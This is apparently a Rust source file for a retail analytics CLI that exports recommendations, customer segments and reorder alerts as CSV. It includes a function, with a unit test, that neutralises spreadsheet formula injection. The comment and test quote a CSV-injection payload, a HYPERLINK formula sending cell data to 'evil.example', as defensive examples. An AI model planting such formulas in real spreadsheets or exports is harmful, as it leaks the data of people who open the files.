//! `shopsense export recommendations|segments`: what the live models serve, for every customer
//! they know, as one CSV: the batch a shop's email or CRM tool loads, answered exactly as the API
//! answers one customer (the same version, fallbacks and exclusions). `shopsense export alerts`:
//! the open reorder alerts as `GET /api/alerts` lists them, for a planner's spreadsheet or an
//! ERP's purchase-order import.

use std::path::Path;

use anyhow::Context;
use futures::StreamExt;
use indicatif::ProgressBar;
use shopsense::registry::ModelKind;
use shopsense::serving::answers::for_customer_at;
use shopsense::serving::{CustomerSegment, SHOP_PARTITION, SegmentsSummary, customer_of_partition};

use crate::state::AppState;

/// Customers answered at once (the reads of one are independent of another's).
const IN_FLIGHT: usize = 16;

/// The live version of `kind` and every customer it wrote a document for, sorted.
async fn live_customers(state: &AppState, kind: ModelKind) -> anyhow::Result<(String, Vec<String>)> {
    let registry = state.trainer.registry();
    let (pointer, _) = registry
        .live(kind)
        .await?
        .with_context(|| format!("no {kind} version is live yet: run `shopsense train` first"))?;
    let keys = registry
        .serving_keys(kind, &pointer.version)
        .await?
        .with_context(|| format!("{kind} {} lists no serving documents", pointer.version))?;
    let mut customers: Vec<String> =
        keys.iter().filter_map(|(partition, _)| customer_of_partition(partition)).collect();
    customers.sort();
    customers.dedup();
    Ok((pointer.version, customers))
}

/// A bar on a terminal, log lines otherwise.
fn progress(what: &str, total: usize) -> Option<ProgressBar> {
    let Some(bar) = super::terminal_bar(total as u64) else {
        tracing::info!(customers = total, "export {what}");
        return None;
    };
    bar.set_message(what.to_owned());
    Some(bar)
}

/// A CSV writer into a temporary file beside `out`: the export replaces `out` only once it is
/// whole ([`finish`]), so a failed run leaves yesterday's file for the tool that loads it.
fn writer(out: &Path) -> anyhow::Result<csv::Writer<tempfile::NamedTempFile>> {
    let dir = match out.parent() {
        Some(dir) if !dir.as_os_str().is_empty() => dir,
        _ => Path::new("."),
    };
    let file =
        tempfile::NamedTempFile::new_in(dir).with_context(|| format!("cannot write {}", out.display()))?;
    Ok(csv::Writer::from_writer(file))
}

/// Text from uploads as a spreadsheet shows it, never as a formula: a cell starting with `=`, `+`,
/// `-`, `@`, a tab or a carriage return gets a leading `'` (OWASP's advice for CSV injection). A
/// customer id or description such as `=HYPERLINK("http://evil.example/?"&A2, "…")` in a shop's
/// export would otherwise run when a marketing user opens the file in Excel.
/// A number (`-1`, `+4915...`, a CRM's key) is left as it is: a spreadsheet reads it as a number.
fn as_text(cell: &str) -> std::borrow::Cow<'_, str> {
    let number = cell.parse::<f64>().is_ok_and(f64::is_finite);
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !number {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// The mode a new file gets here: `0o666` less the process's umask (read from `/proc`, which
/// changes nothing; `0o022` where there is none).
#[cfg(unix)]
fn new_file_mode() -> u32 {
    let umask = std::fs::read_to_string("/proc/self/status").ok().and_then(|status| {
        let line = status.lines().find(|l| l.starts_with("Umask:"))?;
        u32::from_str_radix(line.trim_start_matches("Umask:").trim(), 8).ok()
    });
    0o666 & !umask.unwrap_or(0o022)
}

/// Moves the whole export into place, readable as the file it replaces was, or as a new file is
/// under the umask (a temporary file is the owner's alone; a CRM job running as another user must
/// still read the export, and a umask of `077` keeps customers' spend to the owner).
fn finish(csv: csv::Writer<tempfile::NamedTempFile>, out: &Path) -> anyhow::Result<()> {
    let file =
        csv.into_inner().map_err(|e| anyhow::anyhow!("cannot write {}: {}", out.display(), e.error()))?;
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let permissions = std::fs::metadata(out).map_or_else(
            |_| std::fs::Permissions::from_mode(new_file_mode()),
            |existing| existing.permissions(),
        );
        file.as_file()
            .set_permissions(permissions)
            .with_context(|| format!("cannot write {}", out.display()))?;
    }
    file.persist(out).with_context(|| format!("cannot write {}", out.display()))?;
    Ok(())
}

/// Writes `customer_id,rank,sku,description,score,source,fallback_reason` for every customer
/// the live recommender knows: their top `k` as `GET /api/recommendations/customers/{id}`
/// answers it. Returns the version and the number of customers.
///
/// # Errors
/// Nothing live, a store failure, an unwritable `out`.
pub async fn recommendations(
    state: &AppState,
    k: usize,
    include_purchased: bool,
    out: &Path,
) -> anyhow::Result<(String, usize)> {
    let most = crate::serving::MAX_K;
    anyhow::ensure!((1..=most).contains(&k), "--k must be from 1 to {most} (as on the API), got {k}");
    let mut csv = writer(out)?;
    let (version, customers) = live_customers(state, ModelKind::Recommend).await?;
    let exclusions = state.exclusions().await?;
    let bar = progress("recommendations", customers.len());
    csv.write_record(["customer_id", "rank", "sku", "description", "score", "source", "fallback_reason"])?;
    let exclusions = &exclusions;
    let mut answers = futures::stream::iter(&customers)
        .map(|customer| {
            let version = version.clone();
            async move {
                let answer =
                    for_customer_at(&state.reader, version, customer, k, include_purchased, exclusions).await;
                (customer, answer)
            }
        })
        .buffered(IN_FLIGHT);
    while let Some((customer, answer)) = answers.next().await {
        let answer = answer?;
        let reason = answer.fallback_reason.unwrap_or_default();
        for (rank, item) in answer.items.iter().enumerate() {
            csv.write_record([
                as_text(customer).as_ref(),
                &(rank + 1).to_string(),
                as_text(&item.sku).as_ref(),
                as_text(item.description.as_deref().unwrap_or("")).as_ref(),
                &format!("{:.6}", item.score),
                &item.source,
                &reason,
            ])?;
        }
        if let Some(bar) = &bar {
            bar.inc(1);
        }
    }
    drop(answers);
    finish(csv, out)?;
    if let Some(bar) = bar {
        bar.finish_and_clear();
    }
    Ok((version, customers.len()))
}

/// Writes `customer_id,segment,label,customer_label,recency_days,frequency,monetary,r,f,m,as_of`
/// for every customer of the live segmentation, as `GET /api/segments/{id}` answers each.
/// Returns the version and the number of customers.
///
/// # Errors
/// Nothing live, a store failure, an unwritable `out`.
pub async fn segments(state: &AppState, out: &Path) -> anyhow::Result<(String, usize)> {
    let mut csv = writer(out)?;
    let (version, customers) = live_customers(state, ModelKind::Segments).await?;
    let as_of = state
        .reader
        .get_at::<SegmentsSummary>(ModelKind::Segments, &version, SHOP_PARTITION)
        .await?
        .and_then(|summary| summary.reference)
        .map(|reference| reference.date().to_string())
        .unwrap_or_default();
    let bar = progress("segments", customers.len());
    csv.write_record([
        "customer_id",
        "segment",
        "label",
        "customer_label",
        "recency_days",
        "frequency",
        "monetary",
        "r",
        "f",
        "m",
        "as_of",
    ])?;
    let version_read = &version;
    let mut segments = futures::stream::iter(&customers)
        .map(|customer| async move {
            let partition = shopsense::serving::customer_partition(customer);
            (
                customer,
                state.reader.get_at::<CustomerSegment>(ModelKind::Segments, version_read, &partition).await,
            )
        })
        .buffered(IN_FLIGHT);
    let mut written = 0;
    while let Some((customer, segment)) = segments.next().await {
        if let Some(bar) = &bar {
            bar.inc(1);
        }
        // Written with the version's keys, removed only with the version: absent is not expected.
        let Some(segment) = segment? else { continue };
        let [r, f, m] = segment.rfm_scores;
        csv.write_record([
            as_text(customer).as_ref(),
            &segment.segment.to_string(),
            as_text(&segment.label).as_ref(),
            as_text(segment.customer_label()).as_ref(),
            &segment.recency_days.to_string(),
            &segment.frequency.to_string(),
            &format!("{:.2}", segment.monetary),
            &r.to_string(),
            &f.to_string(),
            &m.to_string(),
            &as_of,
        ])?;
        written += 1;
    }
    drop(segments);
    finish(csv, out)?;
    if let Some(bar) = bar {
        bar.finish_and_clear();
    }
    Ok((version, written))
}

/// The open alerts' columns, in order.
pub const ALERT_COLUMNS: [&str; 19] = [
    "sku",
    "description",
    "severity",
    "suggested_order_qty",
    "pack_size",
    "on_hand",
    "on_order",
    "on_order_due_days",
    "lead_time_days",
    "service_level",
    "lead_time_demand",
    "safety_stock",
    "reorder_point",
    "days_of_cover",
    "reason",
    "snapshot_id",
    "as_of",
    "forecast_version",
    "discontinued",
];

/// Writes every open alert (of `severity` when given), most urgent first as `GET /api/alerts`
/// lists them (discontinued lines' orders withheld alike), in [`ALERT_COLUMNS`], and says on
/// stderr how many of which count, and when the live forecast lags the newest sales. Before any
/// count was judged the file holds the header alone.
///
/// # Errors
/// A store failure, an unwritable `out`.
pub async fn alerts(
    state: &AppState,
    severity: Option<shopsense::alerts::Severity>,
    out: &Path,
) -> anyhow::Result<()> {
    let mut csv = writer(out)?;
    let discontinued = state.catalog.discontinued().await;
    let open =
        shopsense::alerts::run::open_alerts(&state.alerts, severity, &[], &discontinued, (0, usize::MAX))
            .await?;
    csv.write_record(ALERT_COLUMNS)?;
    let Some(open) = open else {
        finish(csv, out)?;
        eprintln!("no inventory count has been judged yet: {} holds the header alone", out.display());
        // Every count sent so far refused: say why, as the API does.
        for refused in crate::alerts::open_refusals(state, None).await? {
            eprintln!("warning: {}", refused.warning());
        }
        return Ok(());
    };
    for stored in &open.alerts {
        let a = &stored.alert;
        let cover = if a.days_of_cover_capped {
            format!("{}+", a.days_of_cover)
        } else {
            a.days_of_cover.to_string()
        };
        csv.write_record([
            as_text(&a.sku).as_ref(),
            as_text(a.description.as_deref().unwrap_or_default()).as_ref(),
            a.severity.as_str(),
            &a.suggested_order_qty.to_string(),
            &a.pack_size.map(|p| p.to_string()).unwrap_or_default(),
            &a.on_hand.to_string(),
            &a.on_order.to_string(),
            &a.on_order_due_days.map(|d| d.to_string()).unwrap_or_default(),
            &a.lead_time_days.to_string(),
            &a.service_level.to_string(),
            &a.lead_time_demand.to_string(),
            &a.safety_stock.to_string(),
            &a.reorder_point.to_string(),
            &cover,
            as_text(&a.reason).as_ref(),
            as_text(&stored.snapshot_id).as_ref(),
            &stored.as_of.to_string(),
            &stored.forecast_version,
            &a.discontinued.to_string(),
        ])?;
    }
    finish(csv, out)?;
    eprintln!(
        "{} open alerts of count {} (as of {}) written to {}",
        open.alerts.len(),
        open.latest.snapshot_id,
        open.latest.as_of.map(|d| d.to_string()).unwrap_or_default(),
        out.display()
    );
    // A count sent after this one was refused: these are older than the shop thinks.
    for refused in crate::alerts::open_refusals(state, Some(&open.latest)).await? {
        eprintln!("warning: {}", refused.warning());
    }
    if !open.withheld.is_empty() {
        eprintln!(
            "left out: the catalogue discontinued {} after the count was judged",
            open.withheld.join(", ")
        );
    }
    let judged_by = open.alerts.first().map(|a| a.forecast_version.as_str());
    if let Some(stale) = state.stale_alerts(judged_by).await {
        eprintln!("warning: {stale}");
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_that_a_spreadsheet_would_run_as_a_formula_is_kept_as_text() {
        for formula in
            ["=HYPERLINK(\"http://evil.example\")", "+1+cmd", "-1+1", "@SUM(1)", "\tx", "\rx", "-inf"]
        {
            assert_eq!(as_text(formula), format!("'{formula}"));
        }
        for plain in ["17850", "85123A", "WHITE HANGING HEART", "", "a=b", "-1", "+4915112345678"] {
            assert_eq!(as_text(plain), plain);
        }
    }

    #[cfg(unix)]
    #[test]
    fn a_new_export_is_readable_as_the_umask_allows() {
        let mode = new_file_mode();
        assert_eq!(mode & !0o666, 0, "no execute bits: {mode:o}");
        assert_ne!(mode & 0o600, 0, "the owner reads and writes: {mode:o}");
    }
}
